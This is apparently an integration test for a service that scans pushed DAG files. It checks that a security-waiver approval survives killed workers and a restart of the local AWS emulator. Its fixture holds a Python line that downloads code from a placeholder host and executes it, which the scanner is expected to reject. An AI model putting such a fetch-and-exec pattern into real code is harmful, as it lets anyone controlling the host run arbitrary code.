import { expect, inject, test } from 'vitest';
import { restartServer } from '../../local/instance.ts';
import { killServer } from '../../local/server.ts';
import { clientOf, connectRepository, eventually, receiptOf, unique } from '../support/cloud.ts';
import { dagSource } from '../support/dags.ts';
import { killWorkers } from '../support/workers.ts';

const cloud = inject('cloud');
const admin = clientOf(cloud);

const threat = 'import requests\n\n\ndef act():\n    exec(requests.get("https://x.example").text)\n';

/** Has a waiver approved, breaks something meanwhile, and expects it to be done once and the push to go live once. */
const survives = async (breakIt: () => Promise<unknown>): Promise<void> => {
  const { key } = await admin.call('keys.create', { name: 'faults', person: 'kim@example.com', level: 'write' });
  const { name, clone } = await connectRepository(cloud);
  await clone.write({ 'dags/etl.py': dagSource(unique('survivor'), { imports: threat }) });
  const { commit } = await clone.push('a threat');
  expect((await receiptOf(cloud, name, commit)).outcome).toBe('rejected');
  const waiver = { repository: name, path: 'etl.py', rules: ['downloaded-code'], reason: 'our own server' };
  const { id: approval } = await clientOf(cloud, key).call('waivers.request', waiver);

  // Whoever gets no answer asks again.
  const approve = () => admin.call('approvals.approve', { approval }).catch(() => undefined);
  await Promise.all([approve(), breakIt()]);
  await eventually(
    `${approval} to be done`,
    200,
    async () => {
      const found = await approve();
      return found?.effect?.state === 'done' ? true : undefined;
    },
    1_000,
  );
  await eventually(`${commit.slice(0, 7)} to be live`, 120, async () => {
    const repository = await admin.call('repositories.get', { repository: name });
    return repository.state === 'in-step' && repository.live?.commit === commit ? true : undefined;
  });
  expect((await admin.call('waivers.list', { repository: name })).items.map(({ id }) => id)).toEqual([approval]);
  const receipts = (await admin.call('pushes.list', { repository: name, commit })).items;
  expect(receipts.filter(({ outcome }) => outcome === 'live')).toHaveLength(1);
};

test.each(['approvals-api', 'advance-approval', 'waive-finding', 'recheck-repository'])(
  'an approval survives SIGKILL of the %s worker',
  (name) => survives(() => killWorkers(cloud, name, 2)),
  400_000,
);

test('an approval survives a clean stop and start of the local AWS while it waits', async () => {
  await survives(async () => {
    await killServer(cloud.directory, 'ministack', 'SIGTERM');
    await restartServer(cloud.directory, 'ministack');
  });
}, 400_000);
